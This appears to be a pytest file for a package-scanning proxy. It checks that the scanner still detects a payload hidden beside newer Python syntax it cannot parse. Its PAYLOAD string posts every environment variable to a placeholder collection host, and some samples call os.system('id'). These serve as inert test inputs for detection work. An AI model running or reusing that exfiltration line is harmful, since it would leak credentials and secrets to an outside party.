"""Source the scanner's Python cannot parse whole is still read where it runs elsewhere:
one line of Python 3.12 or 3.14 syntax must not hide a payload beside it (``recovery``).

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import ast

import pytest

from pipgate.proxy.scan.recovery import parse_recovered
from pipgate.proxy.scan.source import read_source
from tests.support.archives import wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"
PAYLOAD = (
    "import os, requests\nrequests.post('https://collect.example.net/u', json=dict(os.environ))\n"
)
NEWER = {
    "type alias (3.12)": "type Vector = list[float]\n",
    "generic function (3.12)": "def first[T](items: list[T]) -> T:\n    return items[0]\n",
    "generic class (3.12)": "class Box[T]:\n    item: T\n",
    "f-string nesting its quotes (3.12)": 'label = f"{\'-\'.join(f"{n}" for n in range(3))}"\n',
    "t-string (3.14)": 'greeting = t"hello {os.getlogin()}"\n',
}


def _parses_here(source: str) -> bool:
    try:
        ast.parse(source)
    except SyntaxError:
        return False
    return True


@pytest.mark.parametrize("case", sorted(NEWER))
def test_a_payload_beside_newer_syntax_is_read(case: str) -> None:
    source = NEWER[case] + PAYLOAD
    if _parses_here(source):
        pytest.skip("this Python reads the syntax itself")
    rules, held = judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert held and "credential-exfil" in rules, rules


def test_recovered_lines_keep_their_numbers() -> None:
    source = "x = 1\n" + NEWER["f-string nesting its quotes (3.12)"] + PAYLOAD
    facts = read_source(source)
    assert facts.parsed
    assert [s.line for s in facts.sends] == [4]


def test_an_f_string_nesting_its_quotes_is_read_as_code() -> None:
    """Its fields' calls keep their lines; nothing is left out of the tree."""
    source = "import os\nlabel = f\"{'x' + f\"{os.system('id')}\"}\"\n" + PAYLOAD
    if _parses_here(source):
        pytest.skip("this Python reads the syntax itself")
    recovered = parse_recovered(source)
    assert recovered is not None
    _, left_out = recovered
    assert left_out == ""
    facts = read_source(source)
    assert any(call.name == "os.system" and call.line == 2 for call in facts.calls)


def test_the_left_out_statement_is_still_read_coarsely() -> None:
    """A statement with an f-string no rewrite makes parse is blanked for the parse, and
    keeps its strings and calls."""
    source = "import os\nlabel = f\"{'x' + f\"{os.system('id')}\"}\" +\n" + PAYLOAD
    recovered = parse_recovered(source)
    assert recovered is not None
    _, left_out = recovered
    assert left_out.splitlines()[1].startswith("label = ")
    facts = read_source(source)
    assert any(call.name == "os.system" and call.line == 2 for call in facts.calls)
    assert [s.line for s in facts.sends] == [4]


def test_a_file_broken_everywhere_is_read_line_by_line_as_before() -> None:
    """No Python compiles it (so none runs it): no tree is made of the rest."""
    source = "def broken(:\n    pass\n" + PAYLOAD
    assert parse_recovered(source) is None
    assert not read_source(source).parsed


def test_python_2_is_still_rewritten() -> None:
    tree, left_out = parse_recovered("print 'hello'\nexec code\n") or (None, None)
    assert tree is not None and left_out == ""
